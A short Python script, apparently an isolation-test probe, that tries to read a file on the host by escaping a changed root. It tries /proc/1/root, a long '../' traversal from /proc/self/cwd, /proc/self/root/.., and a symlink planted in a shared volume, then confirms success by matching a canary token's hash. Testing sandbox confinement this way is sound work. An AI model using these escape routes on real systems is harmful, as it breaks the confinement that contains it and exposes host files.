"""Reads a file of the host by its path, and by the ways around a changed root."""

import hashlib
import json
import re
import sys
from pathlib import Path

facts = json.loads(sys.argv[1])
path = facts["path"]
ways = [path, f"/proc/1/root{path}", f"/proc/self/cwd/{'../' * 20}{path}", f"/proc/self/root/..{path}"]
link = Path(facts["volume"], "way-out")
try:
    link.symlink_to(path)
    ways.append(str(link))
except OSError:
    pass
for way in ways:
    try:
        words = re.findall(rb"canary-[0-9a-f]{32}", Path(way).read_bytes())
    except OSError:
        continue
    if any(hashlib.sha256(word).hexdigest() == facts["digest"] for word in words):
        print(f"succeeded: read {way}")
        break
